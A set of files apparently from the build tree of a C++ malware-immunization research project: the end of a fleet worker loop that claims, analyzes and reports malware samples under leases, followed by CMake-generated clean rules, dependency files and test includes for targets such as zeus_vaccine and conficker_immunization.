      if (options.max_idle_ms > 0 && idle_ms >= options.max_idle_ms) {
        return Status::DeadlineExceeded(StrFormat(
            "no work granted for %llu ms and the campaign is not done",
            static_cast<unsigned long long>(idle_ms)));
      }
      ::usleep(static_cast<useconds_t>(options.idle_poll_ms * 1000));
      idle_ms += options.idle_poll_ms;
      continue;
    }
    idle_ms = 0;
    ++stats.claimed;
    if (options.kill_after_claims > 0 &&
        stats.claimed >= options.kill_after_claims) {
      // Chaos hook: die holding a live lease, mid-sample. The sample is
      // recovered by lease expiry + reassignment, nothing else.
      (void)::raise(SIGKILL);
    }

    if (claim.config_digest != expected_config) {
      return Status::FailedPrecondition(StrFormat(
          "coordinator campaign config digest %s does not match this "
          "worker's %s; refusing to analyze",
          claim.config_digest.c_str(), expected_config.c_str()));
    }
    const size_t index = static_cast<size_t>(claim.sample_index);
    if (index >= corpus.size()) {
      return Status::FailedPrecondition(StrFormat(
          "claimed sample index %zu but this worker's corpus has %zu "
          "samples",
          index, corpus.size()));
    }
    const vm::Program& sample = corpus[index];
    if (sample.Digest() != claim.sample_digest) {
      return Status::FailedPrecondition(StrFormat(
          "sample %zu (%s) digest mismatch: coordinator %s, local %s — "
          "stale corpus copy?",
          index, sample.name.c_str(), claim.sample_digest.c_str(),
          sample.Digest().c_str()));
    }

    if (options.verdicts) {
      // Cheap resource profile first: operators see a suspicion verdict
      // long before the full pipeline finishes the sample.
      net::VerdictRequest verdict =
          ScoreSample(sample, options.verdict_options);
      verdict.worker_id = options.worker_id;
      verdict.lease_id = claim.lease_id;
      verdict.sample_index = claim.sample_index;
      Result<net::VerdictReply> sent = client.Verdict(verdict);
      if (sent.ok() && sent->accepted) ++stats.verdicts;
    }

    net::CompleteRequest upload;
    {
      Heartbeat heartbeat(client, options.worker_id, claim.lease_id,
                          claim.lease_ms);
      upload.report = vaccine::AnalyzeIsolated(pipeline, sample);
    }
    upload.worker_id = options.worker_id;
    upload.lease_id = claim.lease_id;
    upload.sample_index = claim.sample_index;
    AUTOVAC_ASSIGN_OR_RETURN(const net::CompleteReply done,
                             uploader.Complete(std::move(upload)));
    if (done.accepted) {
      ++stats.completed;
    } else if (done.stale) {
      // Our lease expired and the sample went to someone else; the work
      // is wasted but the campaign is unharmed. Claim the next one.
      ++stats.stale;
    } else if (done.duplicate) {
      ++stats.duplicates;
    }
    if (done.campaign_done) {
      // Our upload finished the campaign: exit on its acknowledgement
      // instead of racing one more claim against a coordinator that may
      // already be tearing its socket down.
      return stats;
    }
  }
}

}  // namespace autovac::fleet
