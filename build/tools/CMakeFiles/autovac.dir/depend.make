# Empty dependencies file for autovac.
# This may be replaced when dependencies are built.
