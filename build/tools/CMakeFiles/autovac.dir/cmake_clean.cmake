file(REMOVE_RECURSE
  "CMakeFiles/autovac.dir/autovac_cli.cpp.o"
  "CMakeFiles/autovac.dir/autovac_cli.cpp.o.d"
  "autovac"
  "autovac.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/autovac.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
