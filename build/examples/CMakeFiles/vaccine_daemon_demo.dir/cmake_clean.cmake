file(REMOVE_RECURSE
  "CMakeFiles/vaccine_daemon_demo.dir/vaccine_daemon_demo.cpp.o"
  "CMakeFiles/vaccine_daemon_demo.dir/vaccine_daemon_demo.cpp.o.d"
  "vaccine_daemon_demo"
  "vaccine_daemon_demo.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/vaccine_daemon_demo.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
