# Empty compiler generated dependencies file for vaccine_daemon_demo.
# This may be replaced when dependencies are built.
