file(REMOVE_RECURSE
  "CMakeFiles/conficker_immunization.dir/conficker_immunization.cpp.o"
  "CMakeFiles/conficker_immunization.dir/conficker_immunization.cpp.o.d"
  "conficker_immunization"
  "conficker_immunization.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/conficker_immunization.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
