# Empty compiler generated dependencies file for conficker_immunization.
# This may be replaced when dependencies are built.
