# Empty dependencies file for conficker_immunization.
# This may be replaced when dependencies are built.
