file(REMOVE_RECURSE
  "CMakeFiles/corpus_triage.dir/corpus_triage.cpp.o"
  "CMakeFiles/corpus_triage.dir/corpus_triage.cpp.o.d"
  "corpus_triage"
  "corpus_triage.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/corpus_triage.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
