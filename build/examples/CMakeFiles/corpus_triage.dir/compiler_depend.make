# Empty compiler generated dependencies file for corpus_triage.
# This may be replaced when dependencies are built.
