# Empty dependencies file for zeus_vaccine.
# This may be replaced when dependencies are built.
