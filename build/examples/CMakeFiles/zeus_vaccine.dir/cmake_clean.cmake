file(REMOVE_RECURSE
  "CMakeFiles/zeus_vaccine.dir/zeus_vaccine.cpp.o"
  "CMakeFiles/zeus_vaccine.dir/zeus_vaccine.cpp.o.d"
  "zeus_vaccine"
  "zeus_vaccine.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/zeus_vaccine.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
