# Empty dependencies file for sandbox_smoke_test.
# This may be replaced when dependencies are built.
