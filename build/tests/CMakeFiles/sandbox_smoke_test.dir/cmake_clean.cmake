file(REMOVE_RECURSE
  "CMakeFiles/sandbox_smoke_test.dir/sandbox_smoke_test.cc.o"
  "CMakeFiles/sandbox_smoke_test.dir/sandbox_smoke_test.cc.o.d"
  "sandbox_smoke_test"
  "sandbox_smoke_test.pdb"
  "sandbox_smoke_test[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/sandbox_smoke_test.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
