# Empty dependencies file for sandbox_api_test.
# This may be replaced when dependencies are built.
