file(REMOVE_RECURSE
  "CMakeFiles/sandbox_api_test.dir/sandbox_api_test.cc.o"
  "CMakeFiles/sandbox_api_test.dir/sandbox_api_test.cc.o.d"
  "sandbox_api_test"
  "sandbox_api_test.pdb"
  "sandbox_api_test[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/sandbox_api_test.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
