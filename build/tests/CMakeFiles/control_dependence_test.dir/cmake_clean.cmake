file(REMOVE_RECURSE
  "CMakeFiles/control_dependence_test.dir/control_dependence_test.cc.o"
  "CMakeFiles/control_dependence_test.dir/control_dependence_test.cc.o.d"
  "control_dependence_test"
  "control_dependence_test.pdb"
  "control_dependence_test[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/control_dependence_test.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
