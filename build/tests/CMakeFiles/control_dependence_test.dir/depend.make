# Empty dependencies file for control_dependence_test.
# This may be replaced when dependencies are built.
