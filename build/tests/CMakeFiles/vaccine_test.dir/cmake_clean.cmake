file(REMOVE_RECURSE
  "CMakeFiles/vaccine_test.dir/vaccine_test.cc.o"
  "CMakeFiles/vaccine_test.dir/vaccine_test.cc.o.d"
  "vaccine_test"
  "vaccine_test.pdb"
  "vaccine_test[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/vaccine_test.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
