# CMake generated Testfile for 
# Source directory: /root/repo/tests
# Build directory: /root/repo/build/tests
# 
# This file includes the relevant testing commands required for 
# testing this directory and lists subdirectories to be tested as well.
include("/root/repo/build/tests/support_test[1]_include.cmake")
include("/root/repo/build/tests/os_test[1]_include.cmake")
include("/root/repo/build/tests/taint_test[1]_include.cmake")
include("/root/repo/build/tests/vm_test[1]_include.cmake")
include("/root/repo/build/tests/sandbox_smoke_test[1]_include.cmake")
include("/root/repo/build/tests/sandbox_api_test[1]_include.cmake")
include("/root/repo/build/tests/analysis_test[1]_include.cmake")
include("/root/repo/build/tests/vaccine_test[1]_include.cmake")
include("/root/repo/build/tests/malware_test[1]_include.cmake")
include("/root/repo/build/tests/serialize_test[1]_include.cmake")
include("/root/repo/build/tests/limitations_test[1]_include.cmake")
include("/root/repo/build/tests/trace_test[1]_include.cmake")
include("/root/repo/build/tests/campaign_test[1]_include.cmake")
include("/root/repo/build/tests/property_test[1]_include.cmake")
include("/root/repo/build/tests/control_dependence_test[1]_include.cmake")
include("/root/repo/build/tests/pipeline_test[1]_include.cmake")
