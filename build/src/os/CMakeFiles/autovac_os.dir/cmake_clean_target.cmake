file(REMOVE_RECURSE
  "libautovac_os.a"
)
