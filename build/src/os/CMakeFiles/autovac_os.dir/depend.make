# Empty dependencies file for autovac_os.
# This may be replaced when dependencies are built.
