
# Consider dependencies only in project.
set(CMAKE_DEPENDS_IN_PROJECT_ONLY OFF)

# The set of languages for which implicit dependencies are needed:
set(CMAKE_DEPENDS_LANGUAGES
  )

# The set of dependency files which are needed:
set(CMAKE_DEPENDS_DEPENDENCY_FILES
  "/root/repo/src/os/host.cc" "src/os/CMakeFiles/autovac_os.dir/host.cc.o" "gcc" "src/os/CMakeFiles/autovac_os.dir/host.cc.o.d"
  "/root/repo/src/os/object_namespace.cc" "src/os/CMakeFiles/autovac_os.dir/object_namespace.cc.o" "gcc" "src/os/CMakeFiles/autovac_os.dir/object_namespace.cc.o.d"
  "/root/repo/src/os/resources.cc" "src/os/CMakeFiles/autovac_os.dir/resources.cc.o" "gcc" "src/os/CMakeFiles/autovac_os.dir/resources.cc.o.d"
  )

# Targets to which this target links.
set(CMAKE_TARGET_LINKED_INFO_FILES
  "/root/repo/build/src/support/CMakeFiles/autovac_support.dir/DependInfo.cmake"
  )

# Fortran module output directory.
set(CMAKE_Fortran_TARGET_MODULE_DIR "")
