file(REMOVE_RECURSE
  "CMakeFiles/autovac_os.dir/host.cc.o"
  "CMakeFiles/autovac_os.dir/host.cc.o.d"
  "CMakeFiles/autovac_os.dir/object_namespace.cc.o"
  "CMakeFiles/autovac_os.dir/object_namespace.cc.o.d"
  "CMakeFiles/autovac_os.dir/resources.cc.o"
  "CMakeFiles/autovac_os.dir/resources.cc.o.d"
  "libautovac_os.a"
  "libautovac_os.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/autovac_os.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
