file(REMOVE_RECURSE
  "libautovac_support.a"
)
