file(REMOVE_RECURSE
  "CMakeFiles/autovac_support.dir/digest.cc.o"
  "CMakeFiles/autovac_support.dir/digest.cc.o.d"
  "CMakeFiles/autovac_support.dir/logging.cc.o"
  "CMakeFiles/autovac_support.dir/logging.cc.o.d"
  "CMakeFiles/autovac_support.dir/pattern.cc.o"
  "CMakeFiles/autovac_support.dir/pattern.cc.o.d"
  "CMakeFiles/autovac_support.dir/rng.cc.o"
  "CMakeFiles/autovac_support.dir/rng.cc.o.d"
  "CMakeFiles/autovac_support.dir/status.cc.o"
  "CMakeFiles/autovac_support.dir/status.cc.o.d"
  "CMakeFiles/autovac_support.dir/strings.cc.o"
  "CMakeFiles/autovac_support.dir/strings.cc.o.d"
  "CMakeFiles/autovac_support.dir/table.cc.o"
  "CMakeFiles/autovac_support.dir/table.cc.o.d"
  "libautovac_support.a"
  "libautovac_support.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/autovac_support.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
