# Empty compiler generated dependencies file for autovac_support.
# This may be replaced when dependencies are built.
