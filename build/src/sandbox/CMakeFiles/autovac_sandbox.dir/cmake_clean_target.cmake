file(REMOVE_RECURSE
  "libautovac_sandbox.a"
)
