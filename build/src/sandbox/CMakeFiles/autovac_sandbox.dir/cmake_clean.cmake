file(REMOVE_RECURSE
  "CMakeFiles/autovac_sandbox.dir/api_ids.cc.o"
  "CMakeFiles/autovac_sandbox.dir/api_ids.cc.o.d"
  "CMakeFiles/autovac_sandbox.dir/kernel.cc.o"
  "CMakeFiles/autovac_sandbox.dir/kernel.cc.o.d"
  "CMakeFiles/autovac_sandbox.dir/kernel_apis.cc.o"
  "CMakeFiles/autovac_sandbox.dir/kernel_apis.cc.o.d"
  "CMakeFiles/autovac_sandbox.dir/sandbox.cc.o"
  "CMakeFiles/autovac_sandbox.dir/sandbox.cc.o.d"
  "libautovac_sandbox.a"
  "libautovac_sandbox.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/autovac_sandbox.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
