
# Consider dependencies only in project.
set(CMAKE_DEPENDS_IN_PROJECT_ONLY OFF)

# The set of languages for which implicit dependencies are needed:
set(CMAKE_DEPENDS_LANGUAGES
  )

# The set of dependency files which are needed:
set(CMAKE_DEPENDS_DEPENDENCY_FILES
  "/root/repo/src/sandbox/api_ids.cc" "src/sandbox/CMakeFiles/autovac_sandbox.dir/api_ids.cc.o" "gcc" "src/sandbox/CMakeFiles/autovac_sandbox.dir/api_ids.cc.o.d"
  "/root/repo/src/sandbox/kernel.cc" "src/sandbox/CMakeFiles/autovac_sandbox.dir/kernel.cc.o" "gcc" "src/sandbox/CMakeFiles/autovac_sandbox.dir/kernel.cc.o.d"
  "/root/repo/src/sandbox/kernel_apis.cc" "src/sandbox/CMakeFiles/autovac_sandbox.dir/kernel_apis.cc.o" "gcc" "src/sandbox/CMakeFiles/autovac_sandbox.dir/kernel_apis.cc.o.d"
  "/root/repo/src/sandbox/sandbox.cc" "src/sandbox/CMakeFiles/autovac_sandbox.dir/sandbox.cc.o" "gcc" "src/sandbox/CMakeFiles/autovac_sandbox.dir/sandbox.cc.o.d"
  )

# Targets to which this target links.
set(CMAKE_TARGET_LINKED_INFO_FILES
  "/root/repo/build/src/support/CMakeFiles/autovac_support.dir/DependInfo.cmake"
  "/root/repo/build/src/os/CMakeFiles/autovac_os.dir/DependInfo.cmake"
  "/root/repo/build/src/vm/CMakeFiles/autovac_vm.dir/DependInfo.cmake"
  "/root/repo/build/src/taint/CMakeFiles/autovac_taint.dir/DependInfo.cmake"
  "/root/repo/build/src/trace/CMakeFiles/autovac_trace.dir/DependInfo.cmake"
  )

# Fortran module output directory.
set(CMAKE_Fortran_TARGET_MODULE_DIR "")
