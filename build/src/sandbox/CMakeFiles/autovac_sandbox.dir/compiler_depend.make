# Empty compiler generated dependencies file for autovac_sandbox.
# This may be replaced when dependencies are built.
