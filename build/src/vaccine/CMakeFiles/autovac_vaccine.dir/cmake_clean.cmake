file(REMOVE_RECURSE
  "CMakeFiles/autovac_vaccine.dir/bdr.cc.o"
  "CMakeFiles/autovac_vaccine.dir/bdr.cc.o.d"
  "CMakeFiles/autovac_vaccine.dir/clinic.cc.o"
  "CMakeFiles/autovac_vaccine.dir/clinic.cc.o.d"
  "CMakeFiles/autovac_vaccine.dir/delivery.cc.o"
  "CMakeFiles/autovac_vaccine.dir/delivery.cc.o.d"
  "CMakeFiles/autovac_vaccine.dir/package.cc.o"
  "CMakeFiles/autovac_vaccine.dir/package.cc.o.d"
  "CMakeFiles/autovac_vaccine.dir/pipeline.cc.o"
  "CMakeFiles/autovac_vaccine.dir/pipeline.cc.o.d"
  "CMakeFiles/autovac_vaccine.dir/report.cc.o"
  "CMakeFiles/autovac_vaccine.dir/report.cc.o.d"
  "CMakeFiles/autovac_vaccine.dir/vaccine.cc.o"
  "CMakeFiles/autovac_vaccine.dir/vaccine.cc.o.d"
  "libautovac_vaccine.a"
  "libautovac_vaccine.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/autovac_vaccine.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
