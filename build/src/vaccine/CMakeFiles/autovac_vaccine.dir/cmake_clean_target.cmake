file(REMOVE_RECURSE
  "libautovac_vaccine.a"
)
