# Empty compiler generated dependencies file for autovac_vaccine.
# This may be replaced when dependencies are built.
