
# Consider dependencies only in project.
set(CMAKE_DEPENDS_IN_PROJECT_ONLY OFF)

# The set of languages for which implicit dependencies are needed:
set(CMAKE_DEPENDS_LANGUAGES
  )

# The set of dependency files which are needed:
set(CMAKE_DEPENDS_DEPENDENCY_FILES
  "/root/repo/src/vaccine/bdr.cc" "src/vaccine/CMakeFiles/autovac_vaccine.dir/bdr.cc.o" "gcc" "src/vaccine/CMakeFiles/autovac_vaccine.dir/bdr.cc.o.d"
  "/root/repo/src/vaccine/clinic.cc" "src/vaccine/CMakeFiles/autovac_vaccine.dir/clinic.cc.o" "gcc" "src/vaccine/CMakeFiles/autovac_vaccine.dir/clinic.cc.o.d"
  "/root/repo/src/vaccine/delivery.cc" "src/vaccine/CMakeFiles/autovac_vaccine.dir/delivery.cc.o" "gcc" "src/vaccine/CMakeFiles/autovac_vaccine.dir/delivery.cc.o.d"
  "/root/repo/src/vaccine/package.cc" "src/vaccine/CMakeFiles/autovac_vaccine.dir/package.cc.o" "gcc" "src/vaccine/CMakeFiles/autovac_vaccine.dir/package.cc.o.d"
  "/root/repo/src/vaccine/pipeline.cc" "src/vaccine/CMakeFiles/autovac_vaccine.dir/pipeline.cc.o" "gcc" "src/vaccine/CMakeFiles/autovac_vaccine.dir/pipeline.cc.o.d"
  "/root/repo/src/vaccine/report.cc" "src/vaccine/CMakeFiles/autovac_vaccine.dir/report.cc.o" "gcc" "src/vaccine/CMakeFiles/autovac_vaccine.dir/report.cc.o.d"
  "/root/repo/src/vaccine/vaccine.cc" "src/vaccine/CMakeFiles/autovac_vaccine.dir/vaccine.cc.o" "gcc" "src/vaccine/CMakeFiles/autovac_vaccine.dir/vaccine.cc.o.d"
  )

# Targets to which this target links.
set(CMAKE_TARGET_LINKED_INFO_FILES
  "/root/repo/build/src/support/CMakeFiles/autovac_support.dir/DependInfo.cmake"
  "/root/repo/build/src/os/CMakeFiles/autovac_os.dir/DependInfo.cmake"
  "/root/repo/build/src/vm/CMakeFiles/autovac_vm.dir/DependInfo.cmake"
  "/root/repo/build/src/taint/CMakeFiles/autovac_taint.dir/DependInfo.cmake"
  "/root/repo/build/src/trace/CMakeFiles/autovac_trace.dir/DependInfo.cmake"
  "/root/repo/build/src/sandbox/CMakeFiles/autovac_sandbox.dir/DependInfo.cmake"
  "/root/repo/build/src/analysis/CMakeFiles/autovac_analysis.dir/DependInfo.cmake"
  )

# Fortran module output directory.
set(CMAKE_Fortran_TARGET_MODULE_DIR "")
