
# Consider dependencies only in project.
set(CMAKE_DEPENDS_IN_PROJECT_ONLY OFF)

# The set of languages for which implicit dependencies are needed:
set(CMAKE_DEPENDS_LANGUAGES
  )

# The set of dependency files which are needed:
set(CMAKE_DEPENDS_DEPENDENCY_FILES
  "/root/repo/src/taint/engine.cc" "src/taint/CMakeFiles/autovac_taint.dir/engine.cc.o" "gcc" "src/taint/CMakeFiles/autovac_taint.dir/engine.cc.o.d"
  "/root/repo/src/taint/labels.cc" "src/taint/CMakeFiles/autovac_taint.dir/labels.cc.o" "gcc" "src/taint/CMakeFiles/autovac_taint.dir/labels.cc.o.d"
  "/root/repo/src/taint/taint_map.cc" "src/taint/CMakeFiles/autovac_taint.dir/taint_map.cc.o" "gcc" "src/taint/CMakeFiles/autovac_taint.dir/taint_map.cc.o.d"
  )

# Targets to which this target links.
set(CMAKE_TARGET_LINKED_INFO_FILES
  "/root/repo/build/src/support/CMakeFiles/autovac_support.dir/DependInfo.cmake"
  "/root/repo/build/src/os/CMakeFiles/autovac_os.dir/DependInfo.cmake"
  "/root/repo/build/src/vm/CMakeFiles/autovac_vm.dir/DependInfo.cmake"
  )

# Fortran module output directory.
set(CMAKE_Fortran_TARGET_MODULE_DIR "")
