file(REMOVE_RECURSE
  "CMakeFiles/autovac_taint.dir/engine.cc.o"
  "CMakeFiles/autovac_taint.dir/engine.cc.o.d"
  "CMakeFiles/autovac_taint.dir/labels.cc.o"
  "CMakeFiles/autovac_taint.dir/labels.cc.o.d"
  "CMakeFiles/autovac_taint.dir/taint_map.cc.o"
  "CMakeFiles/autovac_taint.dir/taint_map.cc.o.d"
  "libautovac_taint.a"
  "libautovac_taint.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/autovac_taint.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
