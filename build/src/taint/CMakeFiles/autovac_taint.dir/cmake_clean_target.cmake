file(REMOVE_RECURSE
  "libautovac_taint.a"
)
