# Empty dependencies file for autovac_taint.
# This may be replaced when dependencies are built.
