
# Consider dependencies only in project.
set(CMAKE_DEPENDS_IN_PROJECT_ONLY OFF)

# The set of languages for which implicit dependencies are needed:
set(CMAKE_DEPENDS_LANGUAGES
  )

# The set of dependency files which are needed:
set(CMAKE_DEPENDS_DEPENDENCY_FILES
  "/root/repo/src/vm/assembler.cc" "src/vm/CMakeFiles/autovac_vm.dir/assembler.cc.o" "gcc" "src/vm/CMakeFiles/autovac_vm.dir/assembler.cc.o.d"
  "/root/repo/src/vm/cpu.cc" "src/vm/CMakeFiles/autovac_vm.dir/cpu.cc.o" "gcc" "src/vm/CMakeFiles/autovac_vm.dir/cpu.cc.o.d"
  "/root/repo/src/vm/disassembler.cc" "src/vm/CMakeFiles/autovac_vm.dir/disassembler.cc.o" "gcc" "src/vm/CMakeFiles/autovac_vm.dir/disassembler.cc.o.d"
  "/root/repo/src/vm/isa.cc" "src/vm/CMakeFiles/autovac_vm.dir/isa.cc.o" "gcc" "src/vm/CMakeFiles/autovac_vm.dir/isa.cc.o.d"
  "/root/repo/src/vm/memory.cc" "src/vm/CMakeFiles/autovac_vm.dir/memory.cc.o" "gcc" "src/vm/CMakeFiles/autovac_vm.dir/memory.cc.o.d"
  "/root/repo/src/vm/program.cc" "src/vm/CMakeFiles/autovac_vm.dir/program.cc.o" "gcc" "src/vm/CMakeFiles/autovac_vm.dir/program.cc.o.d"
  )

# Targets to which this target links.
set(CMAKE_TARGET_LINKED_INFO_FILES
  "/root/repo/build/src/support/CMakeFiles/autovac_support.dir/DependInfo.cmake"
  )

# Fortran module output directory.
set(CMAKE_Fortran_TARGET_MODULE_DIR "")
