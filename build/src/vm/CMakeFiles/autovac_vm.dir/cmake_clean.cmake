file(REMOVE_RECURSE
  "CMakeFiles/autovac_vm.dir/assembler.cc.o"
  "CMakeFiles/autovac_vm.dir/assembler.cc.o.d"
  "CMakeFiles/autovac_vm.dir/cpu.cc.o"
  "CMakeFiles/autovac_vm.dir/cpu.cc.o.d"
  "CMakeFiles/autovac_vm.dir/disassembler.cc.o"
  "CMakeFiles/autovac_vm.dir/disassembler.cc.o.d"
  "CMakeFiles/autovac_vm.dir/isa.cc.o"
  "CMakeFiles/autovac_vm.dir/isa.cc.o.d"
  "CMakeFiles/autovac_vm.dir/memory.cc.o"
  "CMakeFiles/autovac_vm.dir/memory.cc.o.d"
  "CMakeFiles/autovac_vm.dir/program.cc.o"
  "CMakeFiles/autovac_vm.dir/program.cc.o.d"
  "libautovac_vm.a"
  "libautovac_vm.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/autovac_vm.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
