file(REMOVE_RECURSE
  "libautovac_vm.a"
)
