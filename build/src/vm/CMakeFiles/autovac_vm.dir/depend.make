# Empty dependencies file for autovac_vm.
# This may be replaced when dependencies are built.
