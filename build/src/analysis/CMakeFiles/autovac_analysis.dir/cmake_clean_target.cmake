file(REMOVE_RECURSE
  "libautovac_analysis.a"
)
