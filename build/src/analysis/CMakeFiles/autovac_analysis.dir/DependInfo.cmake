
# Consider dependencies only in project.
set(CMAKE_DEPENDS_IN_PROJECT_ONLY OFF)

# The set of languages for which implicit dependencies are needed:
set(CMAKE_DEPENDS_LANGUAGES
  )

# The set of dependency files which are needed:
set(CMAKE_DEPENDS_DEPENDENCY_FILES
  "/root/repo/src/analysis/alignment.cc" "src/analysis/CMakeFiles/autovac_analysis.dir/alignment.cc.o" "gcc" "src/analysis/CMakeFiles/autovac_analysis.dir/alignment.cc.o.d"
  "/root/repo/src/analysis/determinism.cc" "src/analysis/CMakeFiles/autovac_analysis.dir/determinism.cc.o" "gcc" "src/analysis/CMakeFiles/autovac_analysis.dir/determinism.cc.o.d"
  "/root/repo/src/analysis/exclusiveness.cc" "src/analysis/CMakeFiles/autovac_analysis.dir/exclusiveness.cc.o" "gcc" "src/analysis/CMakeFiles/autovac_analysis.dir/exclusiveness.cc.o.d"
  "/root/repo/src/analysis/immunization.cc" "src/analysis/CMakeFiles/autovac_analysis.dir/immunization.cc.o" "gcc" "src/analysis/CMakeFiles/autovac_analysis.dir/immunization.cc.o.d"
  "/root/repo/src/analysis/impact.cc" "src/analysis/CMakeFiles/autovac_analysis.dir/impact.cc.o" "gcc" "src/analysis/CMakeFiles/autovac_analysis.dir/impact.cc.o.d"
  )

# Targets to which this target links.
set(CMAKE_TARGET_LINKED_INFO_FILES
  "/root/repo/build/src/support/CMakeFiles/autovac_support.dir/DependInfo.cmake"
  "/root/repo/build/src/os/CMakeFiles/autovac_os.dir/DependInfo.cmake"
  "/root/repo/build/src/vm/CMakeFiles/autovac_vm.dir/DependInfo.cmake"
  "/root/repo/build/src/taint/CMakeFiles/autovac_taint.dir/DependInfo.cmake"
  "/root/repo/build/src/trace/CMakeFiles/autovac_trace.dir/DependInfo.cmake"
  "/root/repo/build/src/sandbox/CMakeFiles/autovac_sandbox.dir/DependInfo.cmake"
  )

# Fortran module output directory.
set(CMAKE_Fortran_TARGET_MODULE_DIR "")
