file(REMOVE_RECURSE
  "CMakeFiles/autovac_analysis.dir/alignment.cc.o"
  "CMakeFiles/autovac_analysis.dir/alignment.cc.o.d"
  "CMakeFiles/autovac_analysis.dir/determinism.cc.o"
  "CMakeFiles/autovac_analysis.dir/determinism.cc.o.d"
  "CMakeFiles/autovac_analysis.dir/exclusiveness.cc.o"
  "CMakeFiles/autovac_analysis.dir/exclusiveness.cc.o.d"
  "CMakeFiles/autovac_analysis.dir/immunization.cc.o"
  "CMakeFiles/autovac_analysis.dir/immunization.cc.o.d"
  "CMakeFiles/autovac_analysis.dir/impact.cc.o"
  "CMakeFiles/autovac_analysis.dir/impact.cc.o.d"
  "libautovac_analysis.a"
  "libautovac_analysis.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/autovac_analysis.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
