# Empty dependencies file for autovac_analysis.
# This may be replaced when dependencies are built.
