file(REMOVE_RECURSE
  "CMakeFiles/autovac_trace.dir/serialize.cc.o"
  "CMakeFiles/autovac_trace.dir/serialize.cc.o.d"
  "CMakeFiles/autovac_trace.dir/trace.cc.o"
  "CMakeFiles/autovac_trace.dir/trace.cc.o.d"
  "libautovac_trace.a"
  "libautovac_trace.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/autovac_trace.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
