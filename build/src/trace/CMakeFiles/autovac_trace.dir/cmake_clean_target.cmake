file(REMOVE_RECURSE
  "libautovac_trace.a"
)
