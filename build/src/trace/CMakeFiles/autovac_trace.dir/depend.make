# Empty dependencies file for autovac_trace.
# This may be replaced when dependencies are built.
