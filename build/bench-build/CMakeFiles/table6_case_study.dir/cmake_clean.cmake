file(REMOVE_RECURSE
  "../bench/table6_case_study"
  "../bench/table6_case_study.pdb"
  "CMakeFiles/table6_case_study.dir/table6_case_study.cc.o"
  "CMakeFiles/table6_case_study.dir/table6_case_study.cc.o.d"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/table6_case_study.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
