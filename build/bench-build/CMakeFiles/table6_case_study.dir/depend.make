# Empty dependencies file for table6_case_study.
# This may be replaced when dependencies are built.
