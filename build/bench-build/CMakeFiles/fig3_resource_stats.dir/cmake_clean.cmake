file(REMOVE_RECURSE
  "../bench/fig3_resource_stats"
  "../bench/fig3_resource_stats.pdb"
  "CMakeFiles/fig3_resource_stats.dir/fig3_resource_stats.cc.o"
  "CMakeFiles/fig3_resource_stats.dir/fig3_resource_stats.cc.o.d"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/fig3_resource_stats.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
