# Empty dependencies file for fig3_resource_stats.
# This may be replaced when dependencies are built.
