# Empty compiler generated dependencies file for table3_samples.
# This may be replaced when dependencies are built.
