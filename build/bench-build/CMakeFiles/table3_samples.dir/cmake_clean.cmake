file(REMOVE_RECURSE
  "../bench/table3_samples"
  "../bench/table3_samples.pdb"
  "CMakeFiles/table3_samples.dir/table3_samples.cc.o"
  "CMakeFiles/table3_samples.dir/table3_samples.cc.o.d"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/table3_samples.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
