file(REMOVE_RECURSE
  "../bench/table5_family_stats"
  "../bench/table5_family_stats.pdb"
  "CMakeFiles/table5_family_stats.dir/table5_family_stats.cc.o"
  "CMakeFiles/table5_family_stats.dir/table5_family_stats.cc.o.d"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/table5_family_stats.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
