# Empty dependencies file for phase1_stats.
# This may be replaced when dependencies are built.
