file(REMOVE_RECURSE
